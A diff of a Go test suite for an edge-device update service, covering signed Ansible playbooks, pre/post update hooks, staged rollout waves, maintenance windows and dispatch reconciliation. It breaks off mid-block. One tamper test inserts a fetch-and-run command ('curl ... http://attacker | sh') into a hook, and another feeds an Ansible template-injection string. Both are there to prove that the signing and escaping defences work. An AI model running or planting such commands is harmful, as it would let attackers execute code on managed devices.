@@ -1,19 +1,29 @@
 package services_test
 
 import (
+	"bytes"
 	"context"
 	"encoding/json"
 	"errors"
 	"fmt"
 	"io/ioutil"
+	"net/http"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"time"
 
 	"github.com/bxcodec/faker/v3"
+	"github.com/ghodss/yaml"
 	"github.com/golang/mock/gomock"
 	. "github.com/onsi/ginkgo"
 	. "github.com/onsi/gomega"
 	log "github.com/sirupsen/logrus"
 
 	"github.com/redhatinsights/edge-api/config"
+	"github.com/redhatinsights/edge-api/pkg/clients/playbookdispatcher"
+	"github.com/redhatinsights/edge-api/pkg/clients/playbookdispatcher/mock_playbookdispatcher"
 	"github.com/redhatinsights/edge-api/pkg/db"
 	"github.com/redhatinsights/edge-api/pkg/models"
 	"github.com/redhatinsights/edge-api/pkg/services"
@@ -92,9 +102,8 @@ var _ = Describe("UpdateService Basic functions", func() {
 			defer ctrl.Finish()
 			mockRepoBuilder = mock_services.NewMockRepoBuilderInterface(ctrl)
 			updateService = &services.UpdateService{
-				Service:       services.NewService(context.Background(), log.WithField("service", "update")),
-				RepoBuilder:   mockRepoBuilder,
-				WaitForReboot: 0,
+				Service:     services.NewService(context.Background(), log.WithField("service", "update")),
+				RepoBuilder: mockRepoBuilder,
 			}
 		})
 		Context("send notification", func() {
@@ -163,8 +172,15 @@ var _ = Describe("UpdateService Basic functions", func() {
 				DeviceID:             device.ID,
 			}
 			db.DB.Create(d)
+			account := faker.UUIDHyphenated()
+			commit := models.Commit{Account: account, OSTreeCommit: faker.UUIDHyphenated()}
+			db.DB.Create(&commit)
+			db.DB.Create(&models.Image{Account: account, CommitID: commit.ID, Status: models.ImageStatusSuccess})
 			u := &models.UpdateTransaction{
+				Account:         account,
+				Commit:          &commit,
 				DispatchRecords: []models.DispatchRecord{*d},
+				Status:          models.UpdateStatusBuilding,
 			}
 			db.DB.Create(u)
 
@@ -176,13 +192,22 @@ var _ = Describe("UpdateService Basic functions", func() {
 			}
 			message, _ := json.Marshal(event)
 
-			It("should update status when record is found", func() {
-				updateService.ProcessPlaybookDispatcherRunEvent(message)
+			It("should wait for the device to boot the update commit", func() {
+				err := updateService.ProcessPlaybookDispatcherRunEvent(message)
+				Expect(err).To(BeNil())
 				db.DB.First(&d, d.ID)
-				Expect(d.Status).To(Equal(models.DispatchRecordStatusComplete))
+				Expect(d.Status).To(Equal(models.DispatchRecordStatusRebooting))
+				Expect(d.RebootDeadline.Valid).To(BeTrue())
+				db.DB.First(&u, u.ID)
+				Expect(u.Status).To(Equal(models.UpdateStatusBuilding))
 			})
-			It("should update status of the dispatch record", func() {
-				updateService.ProcessPlaybookDispatcherRunEvent(message)
+			It("should update status when the device already booted the update commit", func() {
+				db.DB.Model(&device).Update("current_hash", commit.OSTreeCommit)
+				defer db.DB.Model(&device).Update("current_hash", "")
+				err := updateService.ProcessPlaybookDispatcherRunEvent(message)
+				Expect(err).To(BeNil())
+				db.DB.First(&d, d.ID)
+				Expect(d.Status).To(Equal(models.DispatchRecordStatusComplete))
 				db.DB.First(&u, u.ID)
 				Expect(u.Status).To(Equal(models.UpdateStatusSuccess))
 			})
@@ -248,6 +273,12 @@ var _ = Describe("UpdateService Basic functions", func() {
 				t := services.TemplateRemoteInfo{
 					UpdateTransactionID: 1000,
 					RemoteName:          "remote-name",
+					GpgVerify:           "true",
+					GpgKey:              []byte("-----BEGIN PGP PUBLIC KEY BLOCK-----"),
+					UpdateHooks: &models.UpdateHooks{
+						PreUpdate:  []models.UpdateHook{{Name: "stop bridge", Command: "systemctl stop plc-bridge.service"}},
+						PostUpdate: []models.UpdateHook{{Name: "smoke test", Command: "curl -sf http://localhost:8080/health"}},
+					},
 				}
 				account := "1005"
 				fname := fmt.Sprintf("playbook_dispatcher_update_%s_%d.yml", account, t.UpdateTransactionID)
@@ -277,6 +308,123 @@ var _ = Describe("UpdateService Basic functions", func() {
 				Expect(url).To(BeEquivalentTo("http://localhost:3000/api/edge/v1/updates/1000/update-playbook.yml"))
 			})
 		})
+		Context("when playbook signing is configured", func() {
+			var keyPath string
+			var playbook []byte
+			BeforeEach(func() {
+				var err error
+				keyPath, err = ioutil.TempDir("", "playbook-key")
+				Expect(err).ToNot(HaveOccurred())
+				gpg := func(args ...string) []byte {
+					out, err := exec.Command("gpg", append([]string{"--batch", "--homedir", keyPath}, args...)...).Output()
+					Expect(err).ToNot(HaveOccurred())
+					return out
+				}
+				gpg("--passphrase", "", "--quick-gen-key", "Edge Management <edge@example.com>", "default", "sign", "never")
+				Expect(ioutil.WriteFile(filepath.Join(keyPath, "key_id"), []byte("edge@example.com\n"), 0600)).To(Succeed())
+				Expect(ioutil.WriteFile(filepath.Join(keyPath, "public.asc"), gpg("--armor", "--export"), 0600)).To(Succeed())
+				config.Get().PlaybookSigningKeyPath = keyPath
+				config.Get().TemplatesPath = "./../../templates/"
+
+				ctrl := gomock.NewController(GinkgoT())
+				defer ctrl.Finish()
+				mockFilesService := mock_services.NewMockFilesService(ctrl)
+				mockUploader := mock_services.NewMockUploader(ctrl)
+				mockUploader.EXPECT().UploadFile(gomock.Any(), gomock.Any()).Do(func(x, y string) {
+					playbook, err = ioutil.ReadFile(x)
+					Expect(err).ToNot(HaveOccurred())
+				}).Return("url", nil)
+				mockFilesService.EXPECT().GetUploader().Return(mockUploader)
+				updateService := &services.UpdateService{
+					Service:      services.NewService(context.Background(), log.WithField("service", "update")),
+					FilesService: mockFilesService,
+				}
+				_, err = updateService.WriteTemplate(services.TemplateRemoteInfo{
+					UpdateTransactionID: 1001,
+					RemoteName:          "rhel-edge",
+					GpgVerify:           "true",
+					GpgKey:              []byte("-----BEGIN PGP PUBLIC KEY BLOCK-----"),
+					UpdateHooks: &models.UpdateHooks{
+						PreUpdate: []models.UpdateHook{{Name: "stop bridge", Command: "systemctl stop plc-bridge.service"}},
+					},
+				}, "1005")
+				Expect(err).ToNot(HaveOccurred())
+			})
+			AfterEach(func() {
+				config.Get().PlaybookSigningKeyPath = ""
+				os.RemoveAll(keyPath)
+			})
+			verify := func(playbook []byte) error {
+				// the YAML binary holds the base64 encoded signature, decoded by the []byte field
+				var plays []struct {
+					Vars struct {
+						InsightsSignature []byte `json:"insights_signature"`
+					} `json:"vars"`
+				}
+				Expect(yaml.Unmarshal(playbook, &plays)).To(Succeed())
+				Expect(plays).To(HaveLen(1))
+				Expect(string(plays[0].Vars.InsightsSignature)).To(HavePrefix("-----BEGIN PGP SIGNATURE-----"))
+				signatureFile := filepath.Join(keyPath, "playbook.asc")
+				Expect(ioutil.WriteFile(signatureFile, plays[0].Vars.InsightsSignature, 0600)).To(Succeed())
+				hash, err := services.PlaybookHash(playbook)
+				Expect(err).ToNot(HaveOccurred())
+				cmd := exec.Command("gpg", "--batch", "--homedir", keyPath, "--verify", signatureFile, "-")
+				cmd.Stdin = bytes.NewReader(hash)
+				return cmd.Run()
+			}
+			It("should sign the rendered playbook", func() {
+				Expect(verify(playbook)).To(Succeed())
+			})
+			It("should cover the gpg verification of the devices by the signature", func() {
+				tampered := strings.Replace(string(playbook), `ostree_gpg_verify: "true"`, `ostree_gpg_verify: "false"`, 1)
+				Expect(tampered).ToNot(Equal(string(playbook)))
+				Expect(verify([]byte(tampered))).ToNot(Succeed())
+				tampered = strings.Replace(string(playbook), `ostree_gpg_key: "LS0t`, `ostree_gpg_key: "AAAA`, 1)
+				Expect(tampered).ToNot(Equal(string(playbook)))
+				Expect(verify([]byte(tampered))).ToNot(Succeed())
+			})
+			It("should cover the update hooks by the signature", func() {
+				tampered := strings.Replace(string(playbook), "systemctl stop plc-bridge.service", "curl -s http://attacker | sh", 1)
+				Expect(tampered).ToNot(Equal(string(playbook)))
+				Expect(verify([]byte(tampered))).ToNot(Succeed())
+			})
+		})
+		It("should mark the update hooks unsafe for Ansible templating", func() {
+			config.Get().TemplatesPath = "./../../templates/"
+			ctrl := gomock.NewController(GinkgoT())
+			defer ctrl.Finish()
+			mockFilesService := mock_services.NewMockFilesService(ctrl)
+			mockUploader := mock_services.NewMockUploader(ctrl)
+			var playbook []byte
+			mockUploader.EXPECT().UploadFile(gomock.Any(), gomock.Any()).Do(func(x, y string) {
+				var err error
+				playbook, err = ioutil.ReadFile(x)
+				Expect(err).ToNot(HaveOccurred())
+			}).Return("url", nil)
+			mockFilesService.EXPECT().GetUploader().Return(mockUploader)
+			updateService := &services.UpdateService{
+				Service:      services.NewService(context.Background(), log.WithField("service", "update")),
+				FilesService: mockFilesService,
+			}
+			command := `echo "{{ lookup('env', 'HOME') }}" '{% raw %}' > /tmp/out`
+			_, err := updateService.WriteTemplate(services.TemplateRemoteInfo{
+				UpdateTransactionID: 1002,
+				RemoteName:          "rhel-edge",
+				GpgVerify:           "false",
+				UpdateHooks: &models.UpdateHooks{
+					PostUpdate: []models.UpdateHook{{Name: "{{ name }}", Command: command}},
+				},
+			}, "1005")
+			Expect(err).ToNot(HaveOccurred())
+			Expect(string(playbook)).To(ContainSubstring(`post_update_hooks: [{"name": !unsafe "{{ name }}", "command": !unsafe `))
+			var plays []struct {
+				Vars struct {
+					PostUpdateHooks []models.UpdateHook `json:"post_update_hooks"`
+				} `json:"vars"`
+			}
+			Expect(yaml.Unmarshal(playbook, &plays)).To(Succeed())
+			Expect(plays[0].Vars.PostUpdateHooks).To(Equal([]models.UpdateHook{{Name: "{{ name }}", Command: command}}))
+		})
 	})
 
 	Describe("Set status on update", func() {
@@ -355,6 +503,444 @@ var _ = Describe("UpdateService Basic functions", func() {
 				Expect(u.Status).To(Equal(models.UpdateStatusSuccess))
 			})
 		})
+		Context("when greenboot rolled back one of the devices", func() {
+			d1 := &models.DispatchRecord{
+				PlaybookDispatcherID: faker.UUIDHyphenated(),
+				Status:               models.DispatchRecordStatusComplete,
+			}
+			d2 := &models.DispatchRecord{
+				PlaybookDispatcherID: faker.UUIDHyphenated(),
+				Status:               models.DispatchRecordStatusRolledBack,
+			}
+			db.DB.Create(d1)
+			db.DB.Create(d2)
+			u := &models.UpdateTransaction{
+				DispatchRecords: []models.DispatchRecord{*d1, *d2},
+				Status:          models.UpdateStatusSuccess,
+			}
+			db.DB.Create(u)
+			It("should set the update status as rolled back", func() {
+				updateService.SetUpdateStatus(u)
+				db.DB.First(&u, u.ID)
+				Expect(u.Status).To(Equal(models.UpdateStatusRolledBack))
+			})
+		})
+		Context("when greenboot rolled back one of the devices while others are updating", func() {
+			d1 := &models.DispatchRecord{
+				PlaybookDispatcherID: faker.UUIDHyphenated(),
+				Status:               models.DispatchRecordStatusRebooting,
+			}
+			d2 := &models.DispatchRecord{
+				PlaybookDispatcherID: faker.UUIDHyphenated(),
+				Status:               models.DispatchRecordStatusRolledBack,
+			}
+			db.DB.Create(d1)
+			db.DB.Create(d2)
+			u := &models.UpdateTransaction{
+				DispatchRecords: []models.DispatchRecord{*d1, *d2},
+				Status:          models.UpdateStatusBuilding,
+			}
+			db.DB.Create(u)
+			It("should keep update status", func() {
+				updateService.SetUpdateStatus(u)
+				db.DB.First(&u, u.ID)
+				Expect(u.Status).To(Equal(models.UpdateStatusBuilding))
+			})
+		})
+		Context("when the update uses a cached update repo", func() {
+			var cache *models.UpdateRepoCache
+			var pending *models.DispatchRecord
+			var u *models.UpdateTransaction
+			BeforeEach(func() {
+				cache = &models.UpdateRepoCache{
+					Account:        faker.UUIDHyphenated(),
+					Repo:           &models.Repo{Status: models.RepoStatusSuccess, URL: faker.URL()},
+					ReferenceCount: 1,
+				}
+				Expect(db.DB.Create(cache).Error).ToNot(HaveOccurred())
+				failed := &models.DispatchRecord{Status: models.DispatchRecordStatusError}
+				pending = &models.DispatchRecord{Status: models.DispatchRecordStatusPending}
+				Expect(db.DB.Create(&[]*models.DispatchRecord{failed, pending}).Error).ToNot(HaveOccurred())
+				u = &models.UpdateTransaction{
+					Account:         cache.Account,
+					DispatchRecords: []models.DispatchRecord{*failed, *pending},
+					Status:          models.UpdateStatusBuilding,
+					RepoID:          cache.RepoID,
+					HoldsRepoCache:  true,
+				}
+				Expect(db.DB.Omit("Repo").Create(u).Error).ToNot(HaveOccurred())
+				Expect(db.DB.Create(&models.ConcurrencySlot{Scope: faker.UUIDHyphenated(), Slot: 1,
+					HolderType: models.ConcurrencySlotHolderUpdateTransaction, HolderID: u.ID}).Error).ToNot(HaveOccurred())
+			})
+			countRolloutSlots := func() int64 {
+				var count int64
+				Expect(db.DB.Model(&models.ConcurrencySlot{}).Where("holder_type = ? AND holder_id = ?",
+					models.ConcurrencySlotHolderUpdateTransaction, u.ID).Count(&count).Error).ToNot(HaveOccurred())
+				return count
+			}
+			It("should keep its reference and rollout slot while it still dispatches devices", func() {
+				Expect(updateService.SetUpdateStatus(u)).To(Succeed())
+				Expect(u.Status).To(Equal(models.UpdateStatusError))
+				Expect(db.DB.First(cache, cache.ID).Error).ToNot(HaveOccurred())
+				Expect(cache.ReferenceCount).To(Equal(1))
+				Expect(countRolloutSlots()).To(Equal(int64(1)))
+			})
+			It("should release its reference and rollout slot once it is over", func() {
+				Expect(db.DB.Model(pending).Update("status", models.DispatchRecordStatusComplete).Error).ToNot(HaveOccurred())
+				u.DispatchRecords[1].Status = models.DispatchRecordStatusComplete
+				Expect(updateService.SetUpdateStatus(u)).To(Succeed())
+				Expect(updateService.SetUpdateStatus(u)).To(Succeed())
+
+				Expect(db.DB.First(cache, cache.ID).Error).ToNot(HaveOccurred())
+				Expect(cache.ReferenceCount).To(BeZero())
+				var saved models.UpdateTransaction
+				Expect(db.DB.First(&saved, u.ID).Error).ToNot(HaveOccurred())
+				Expect(saved.HoldsRepoCache).To(BeFalse())
+				Expect(countRolloutSlots()).To(BeZero())
+			})
+		})
+	})
+
+	Describe("Set status on staged rollout", func() {
+		var updateService services.UpdateServiceInterface
+		var mockPlaybookClient *mock_playbookdispatcher.MockClientInterface
+		var update *models.UpdateTransaction
+		var firstWave, secondWave *models.UpdateWave
+
+		BeforeEach(func() {
+			ctrl := gomock.NewController(GinkgoT())
+			mockPlaybookClient = mock_playbookdispatcher.NewMockClientInterface(ctrl)
+			updateService = &services.UpdateService{
+				Service:        services.NewService(context.Background(), log.WithField("service", "update")),
+				PlaybookClient: mockPlaybookClient,
+			}
+
+			update = &models.UpdateTransaction{
+				Account:          faker.UUIDHyphenated(),
+				Status:           models.UpdateStatusBuilding,
+				SuccessThreshold: 100,
+			}
+			db.DB.Create(update)
+			firstWave = &models.UpdateWave{UpdateTransactionID: update.ID, Position: 1, DevicesCount: 1, Status: models.UpdateWaveStatusRunning}
+			secondWave = &models.UpdateWave{UpdateTransactionID: update.ID, Position: 2, DevicesCount: 2, Status: models.UpdateWaveStatusPending}
+			db.DB.Create(firstWave)
+			db.DB.Create(secondWave)
+			for i := 0; i < 3; i++ {
+				device := models.Device{UUID: faker.UUIDHyphenated(), RHCClientID: faker.UUIDHyphenated()}
+				db.DB.Create(&device)
+				dispatchRecord := models.DispatchRecord{
+					Device:       &device,
+					Status:       models.DispatchRecordStatusPending,
+					UpdateWaveID: &secondWave.ID,
+				}
+				if i == 0 {
+					dispatchRecord.Status = models.DispatchRecordStatusRunning
+					dispatchRecord.UpdateWaveID = &firstWave.ID
+				}
+				update.DispatchRecords = append(update.DispatchRecords, dispatchRecord)
+			}
+			db.DB.Save(update)
+		})
+		Context("when the current wave is still running", func() {
+			It("should not dispatch the next wave", func() {
+				err := updateService.SetUpdateStatus(update)
+				Expect(err).ToNot(HaveOccurred())
+				db.DB.First(secondWave, secondWave.ID)
+				Expect(secondWave.Status).To(Equal(models.UpdateWaveStatusPending))
+				db.DB.First(update, update.ID)
+				Expect(update.Status).To(Equal(models.UpdateStatusBuilding))
+			})
+		})
+		Context("when the current wave reaches the success threshold", func() {
+			It("should dispatch the next wave", func() {
+				update.DispatchRecords[0].Status = models.DispatchRecordStatusComplete
+				db.DB.Save(&update.DispatchRecords[0])
+				mockPlaybookClient.EXPECT().ExecuteDispatcher(gomock.Len(2)).Return([]playbookdispatcher.Response{
+					{StatusCode: http.StatusCreated, PlaybookDispatcherID: faker.UUIDHyphenated()},
+					{StatusCode: http.StatusCreated, PlaybookDispatcherID: faker.UUIDHyphenated()},
+				}, nil)
+
+				err := updateService.SetUpdateStatus(update)
+				Expect(err).ToNot(HaveOccurred())
+				db.DB.First(firstWave, firstWave.ID)
+				Expect(firstWave.Status).To(Equal(models.UpdateWaveStatusSuccess))
+				db.DB.First(secondWave, secondWave.ID)
+				Expect(secondWave.Status).To(Equal(models.UpdateWaveStatusRunning))
+				var dispatchRecords []models.DispatchRecord
+				db.DB.Where("update_wave_id = ?", secondWave.ID).Find(&dispatchRecords)
+				Expect(dispatchRecords).To(HaveLen(2))
+				for _, dispatchRecord := range dispatchRecords {
+					Expect(dispatchRecord.Status).To(Equal(models.DispatchRecordStatusCreated))
+				}
+				db.DB.First(update, update.ID)
+				Expect(update.Status).To(Equal(models.UpdateStatusBuilding))
+			})
+		})
+		Context("when the current wave exceeds the failure threshold", func() {
+			It("should pause the update", func() {
+				update.DispatchRecords[0].Status = models.DispatchRecordStatusError
+				db.DB.Save(&update.DispatchRecords[0])
+
+				err := updateService.SetUpdateStatus(update)
+				Expect(err).ToNot(HaveOccurred())
+				db.DB.First(firstWave, firstWave.ID)
+				Expect(firstWave.Status).To(Equal(models.UpdateWaveStatusFailed))
+				db.DB.First(secondWave, secondWave.ID)
+				Expect(secondWave.Status).To(Equal(models.UpdateWaveStatusPending))
+				db.DB.First(update, update.ID)
+				Expect(update.Status).To(Equal(models.UpdateStatusPaused))
+				var events []models.Event
+				Expect(db.DB.Where("resource_type = ? AND resource_id = ? AND new_status = ?",
+					models.EventResourceUpdateTransaction, update.ID, models.UpdateStatusPaused).Find(&events).Error).ToNot(HaveOccurred())
+				Expect(events).To(HaveLen(1))
+				Expect(events[0].Message).To(Equal("rollout wave 1 ended below the success threshold"))
+			})
+		})
+		Context("when a wave exceeds the failure threshold before it ends", func() {
+			It("should pause the update", func() {
+				update.FailureThreshold = 40
+				Expect(db.DB.Save(update).Error).ToNot(HaveOccurred())
+				update.DispatchRecords[1].Status = models.DispatchRecordStatusError
+				update.DispatchRecords[1].UpdateWaveID = &firstWave.ID
+				Expect(db.DB.Save(&update.DispatchRecords[1]).Error).ToNot(HaveOccurred())
+
+				Expect(updateService.SetUpdateStatus(update)).To(Succeed())
+				db.DB.First(firstWave, firstWave.ID)
+				Expect(firstWave.Status).To(Equal(models.UpdateWaveStatusFailed))
+				db.DB.First(update, update.ID)
+				Expect(update.Status).To(Equal(models.UpdateStatusPaused))
+			})
+		})
+		Context("when a device of a wave failed without a failure threshold", func() {
+			It("should wait for the wave to end", func() {
+				update.DispatchRecords[1].Status = models.DispatchRecordStatusError
+				update.DispatchRecords[1].UpdateWaveID = &firstWave.ID
+				Expect(db.DB.Save(&update.DispatchRecords[1]).Error).ToNot(HaveOccurred())
+
+				Expect(updateService.SetUpdateStatus(update)).To(Succeed())
+				db.DB.First(firstWave, firstWave.ID)
+				Expect(firstWave.Status).To(Equal(models.UpdateWaveStatusRunning))
+				db.DB.First(update, update.ID)
+				Expect(update.Status).To(Equal(models.UpdateStatusBuilding))
+			})
+		})
+		Context("when the paused rollout is resumed", func() {
+			It("should dispatch the next wave", func() {
+				update.DispatchRecords[0].Status = models.DispatchRecordStatusError
+				db.DB.Save(&update.DispatchRecords[0])
+				Expect(updateService.SetUpdateStatus(update)).To(Succeed())
+				Expect(update.Status).To(Equal(models.UpdateStatusPaused))
+				mockPlaybookClient.EXPECT().ExecuteDispatcher(gomock.Len(2)).Return([]playbookdispatcher.Response{
+					{StatusCode: http.StatusCreated, PlaybookDispatcherID: faker.UUIDHyphenated()},
+					{StatusCode: http.StatusCreated, PlaybookDispatcherID: faker.UUIDHyphenated()},
+				}, nil)
+
+				Expect(updateService.ResumeUpdate(update)).To(Succeed())
+				db.DB.First(firstWave, firstWave.ID)
+				Expect(firstWave.Status).To(Equal(models.UpdateWaveStatusResumed))
+				db.DB.First(secondWave, secondWave.ID)
+				Expect(secondWave.Status).To(Equal(models.UpdateWaveStatusRunning))
+				db.DB.First(update, update.ID)
+				Expect(update.Status).To(Equal(models.UpdateStatusBuilding))
+			})
+			It("should not resume an update that is not paused", func() {
+				err := updateService.ResumeUpdate(update)
+				Expect(err).To(HaveOccurred())
+				Expect(err).To(BeAssignableToTypeOf(&services.UpdateCannotBeResumed{}))
+			})
+		})
+	})
+
+	Describe("Dispatch scheduled updates", func() {
+		var updateService services.UpdateServiceInterface
+		var mockPlaybookClient *mock_playbookdispatcher.MockClientInterface
+
+		BeforeEach(func() {
+			ctrl := gomock.NewController(GinkgoT())
+			mockPlaybookClient = mock_playbookdispatcher.NewMockClientInterface(ctrl)
+			updateService = &services.UpdateService{
+				Service:        services.NewService(context.Background(), log.WithField("service", "update")),
+				PlaybookClient: mockPlaybookClient,
+			}
+		})
+		createScheduledUpdate := func(update *models.UpdateTransaction, window *models.MaintenanceWindow) *models.DispatchRecord {
+			account := faker.UUIDHyphenated()
+			device := models.Device{Account: account, UUID: faker.UUIDHyphenated(), RHCClientID: faker.UUIDHyphenated()}
+			db.DB.Create(&device)
+			if window != nil {
+				group := models.DeviceGroup{Account: account, Name: faker.Word(), Devices: []models.Device{device}}
+				db.DB.Create(&group)
+				window.DeviceGroupID = group.ID
+				db.DB.Create(window)
+			}
+			update.Account = account
+			if update.Status == "" {
+				update.Status = models.UpdateStatusBuilding
+			}
+			update.DispatchRecords = []models.DispatchRecord{{Device: &device, Status: models.DispatchRecordStatusPending}}
+			db.DB.Create(update)
+			return &update.DispatchRecords[0]
+		}
+		closedWindowSchedule := fmt.Sprintf("0 %d * * *", (time.Now().UTC().Hour()+12)%24)
+
+		Context("when the update has a not before time in the future", func() {
+			It("should hold back the device", func() {
+				dispatchRecord := createScheduledUpdate(&models.UpdateTransaction{
+					NotBefore: models.EdgeAPITime{Time: time.Now().Add(time.Hour), Valid: true},
+				}, nil)
+				mockPlaybookClient.EXPECT().ExecuteDispatcher(gomock.Any()).Return([]playbookdispatcher.Response{
+					{StatusCode: http.StatusCreated, PlaybookDispatcherID: faker.UUIDHyphenated()},
+				}, nil).AnyTimes()
+
+				err := updateService.DispatchScheduledUpdates()
+				Expect(err).ToNot(HaveOccurred())
+				db.DB.First(dispatchRecord, dispatchRecord.ID)
+				Expect(dispatchRecord.Status).To(Equal(models.DispatchRecordStatusPending))
+			})
+		})
+		Context("when the maintenance window of the device is closed", func() {
+			It("should hold back the device", func() {
+				dispatchRecord := createScheduledUpdate(&models.UpdateTransaction{
+					SchedulePolicy: models.UpdateSchedulePolicyNextWindow,
+				}, &models.MaintenanceWindow{Schedule: closedWindowSchedule, Duration: 60})
+				mockPlaybookClient.EXPECT().ExecuteDispatcher(gomock.Any()).Return([]playbookdispatcher.Response{
+					{StatusCode: http.StatusCreated, PlaybookDispatcherID: faker.UUIDHyphenated()},
+				}, nil).AnyTimes()
+
+				err := updateService.DispatchScheduledUpdates()
+				Expect(err).ToNot(HaveOccurred())
+				db.DB.First(dispatchRecord, dispatchRecord.ID)
+				Expect(dispatchRecord.Status).To(Equal(models.DispatchRecordStatusPending))
+			})
+		})
+		Context("when the maintenance window of the device is open", func() {
+			It("should dispatch the device", func() {
+				dispatchRecord := createScheduledUpdate(&models.UpdateTransaction{
+					SchedulePolicy: models.UpdateSchedulePolicyNextWindow,
+				}, &models.MaintenanceWindow{Schedule: "* * * * *", Duration: 60})
+				mockPlaybookClient.EXPECT().ExecuteDispatcher(gomock.Any()).Return([]playbookdispatcher.Response{
+					{StatusCode: http.StatusCreated, PlaybookDispatcherID: faker.UUIDHyphenated()},
+				}, nil).MinTimes(1)
+
+				err := updateService.DispatchScheduledUpdates()
+				Expect(err).ToNot(HaveOccurred())
+				db.DB.First(dispatchRecord, dispatchRecord.ID)
+				Expect(dispatchRecord.Status).To(Equal(models.DispatchRecordStatusCreated))
+			})
+			It("should dispatch the device of an update on error", func() {
+				dispatchRecord := createScheduledUpdate(&models.UpdateTransaction{
+					Status:         models.UpdateStatusError,
+					SchedulePolicy: models.UpdateSchedulePolicyNextWindow,
+				}, &models.MaintenanceWindow{Schedule: "* * * * *", Duration: 60})
+				mockPlaybookClient.EXPECT().ExecuteDispatcher(gomock.Any()).Return([]playbookdispatcher.Response{
+					{StatusCode: http.StatusCreated, PlaybookDispatcherID: faker.UUIDHyphenated()},
+				}, nil).MinTimes(1)
+
+				err := updateService.DispatchScheduledUpdates()
+				Expect(err).ToNot(HaveOccurred())
+				db.DB.First(dispatchRecord, dispatchRecord.ID)
+				Expect(dispatchRecord.Status).To(Equal(models.DispatchRecordStatusCreated))
+			})
+			It("should hold back the device of a cancelled update", func() {
+				dispatchRecord := createScheduledUpdate(&models.UpdateTransaction{
+					Status:         models.UpdateStatusCancelled,
+					SchedulePolicy: models.UpdateSchedulePolicyNextWindow,
+				}, &models.MaintenanceWindow{Schedule: "* * * * *", Duration: 60})
+
+				err := updateService.DispatchScheduledUpdates()
+				Expect(err).ToNot(HaveOccurred())
+				db.DB.First(dispatchRecord, dispatchRecord.ID)
+				Expect(dispatchRecord.Status).To(Equal(models.DispatchRecordStatusPending))
+			})
+		})
+	})
+
+	Describe("Reconcile dispatch records", func() {
+		var updateService services.UpdateServiceInterface
+		var mockPlaybookClient *mock_playbookdispatcher.MockClientInterface
+		var update models.UpdateTransaction
+		var device models.Device
+
+		BeforeEach(func() {
+			ctrl := gomock.NewController(GinkgoT())
+			mockPlaybookClient = mock_playbookdispatcher.NewMockClientInterface(ctrl)
+			updateService = &services.UpdateService{
+				Service:        services.NewService(context.Background(), log.WithField("service", "update")),
+				PlaybookClient: mockPlaybookClient,
+			}
+			account := faker.UUIDHyphenated()
+			device = models.Device{Account: account, UUID: faker.UUIDHyphenated(), RHCClientID: faker.UUIDHyphenated()}
+			db.DB.Create(&device)
+			update = models.UpdateTransaction{
+				Account: account,
+				Status:  models.UpdateStatusBuilding,
+				DispatchRecords: []models.DispatchRecord{
+					{Device: &device, Status: models.DispatchRecordStatusCreated, PlaybookDispatcherID: faker.UUIDHyphenated()},
+				},
+			}
+			db.DB.Create(&update)
+			// playbook dispatcher didn't report about the run for longer than the timeout
+			past := time.Now().Add(-time.Duration(config.Get().DispatchRecordTimeout+1) * time.Minute)
+			db.DB.Model(&models.DispatchRecord{}).Where("id = ?", update.DispatchRecords[0].ID).
+				UpdateColumn("updated_at", models.EdgeAPITime{Time: past, Valid: true})
+		})
+		getDispatchRecord := func() models.DispatchRecord {
+			var dispatchRecord models.DispatchRecord
+			db.DB.First(&dispatchRecord, update.DispatchRecords[0].ID)
+			return dispatchRecord
+		}
+		getUpdate := func() models.UpdateTransaction {
+			var savedUpdate models.UpdateTransaction
+			db.DB.First(&savedUpdate, update.ID)
+			return savedUpdate
+		}
+
+		Context("when the playbook run failed", func() {
+			It("should set the error status on the dispatch record and the update", func() {
+				mockPlaybookClient.EXPECT().GetRun(device.Account, update.DispatchRecords[0].PlaybookDispatcherID).
+					Return(&playbookdispatcher.Run{ID: update.DispatchRecords[0].PlaybookDispatcherID, Status: services.PlaybookStatusTimeout}, nil)
+
+				Expect(updateService.ReconcileDispatchRecords()).To(Succeed())
+				Expect(getDispatchRecord().Status).To(Equal(models.DispatchRecordStatusError))
+				Expect(getUpdate().Status).To(Equal(models.UpdateStatusError))
+			})
+		})
+		Context("when the playbook run is not found", func() {
+			It("should set the error status with the reason", func() {
+				mockPlaybookClient.EXPECT().GetRun(device.Account, update.DispatchRecords[0].PlaybookDispatcherID).Return(nil, nil)
+
+				Expect(updateService.ReconcileDispatchRecords()).To(Succeed())
+				Expect(getDispatchRecord().Status).To(Equal(models.DispatchRecordStatusError))
+				Expect(getUpdate().Status).To(Equal(models.UpdateStatusError))
+				var events []models.Event
+				db.DB.Where("resource_type = ? AND resource_id = ?", models.EventResourceDispatchRecord, update.DispatchRecords[0].ID).Find(&events)
+				Expect(events).ToNot(BeEmpty())
+				Expect(events[len(events)-1].Message).To(ContainSubstring("not found"))
+			})
+		})
+		Context("when the playbook run is still running", func() {
+			It("should set the running status and check it again after the timeout", func() {
+				mockPlaybookClient.EXPECT().GetRun(device.Account, update.DispatchRecords[0].PlaybookDispatcherID).
+					Return(&playbookdispatcher.Run{ID: update.DispatchRecords[0].PlaybookDispatcherID, Status: services.PlaybookStatusRunning}, nil).Times(1)
+
+				Expect(updateService.ReconcileDispatchRecords()).To(Succeed())
+				Expect(getDispatchRecord().Status).To(Equal(models.DispatchRecordStatusRunning))
+				Expect(getUpdate().Status).To(Equal(models.UpdateStatusBuilding))
+				Expect(updateService.ReconcileDispatchRecords()).To(Succeed())
+			})
+		})
+		Context("when playbook dispatcher is unavailable", func() {
+			It("should leave the dispatch record as it is", func() {
+				mockPlaybookClient.EXPECT().GetRun(device.Account, update.DispatchRecords[0].PlaybookDispatcherID).
+					Return(nil, errors.New("playbook dispatcher is unavailable"))
+
+				Expect(updateService.ReconcileDispatchRecords()).To(Succeed())
+				Expect(getDispatchRecord().Status).To(Equal(models.DispatchRecordStatusCreated))
+				// the next tests don't reconcile this dispatch record
+				db.DB.Model(&models.DispatchRecord{}).Where("id = ?", update.DispatchRecords[0].ID).
+					Update("status", models.DispatchRecordStatusComplete)
+			})
+		})
 	})
 
 	Describe("Update Devices From Update Transaction", func() {
@@ -456,4 +1042,656 @@ var _ = Describe("UpdateService Basic functions", func() {
 			})
 		})
 	})
+	Describe("Create device group update", func() {
+		var updateService services.UpdateServiceInterface
+		var account string
+		var imageSet models.ImageSet
+		var oldImage, latestImage models.Image
+		var deviceGroup models.DeviceGroup
+		BeforeEach(func() {
+			updateService = services.NewUpdateService(context.Background(), log.WithField("service", "update"))
+			account = faker.UUIDHyphenated()
